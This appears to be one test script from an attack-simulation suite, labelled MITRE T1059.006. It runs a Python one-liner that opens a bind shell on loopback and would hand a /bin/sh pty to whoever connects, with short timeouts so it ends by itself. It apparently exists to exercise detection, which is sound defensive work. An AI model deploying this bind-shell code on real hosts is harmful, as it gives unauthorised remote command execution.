#!/usr/bin/env bash
# attack: T1059.006 Python bind shell on loopback (listens, would hand a pty to whoever connects; nobody does)
. "$(dirname "$0")/lib/common.sh"
timeout 10 python3 -c "import socket,os,pty;s=socket.socket();s.bind(('127.0.0.1',0));s.listen(1);s.settimeout(1)
try:
    c,_=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')
except OSError:
    pass"
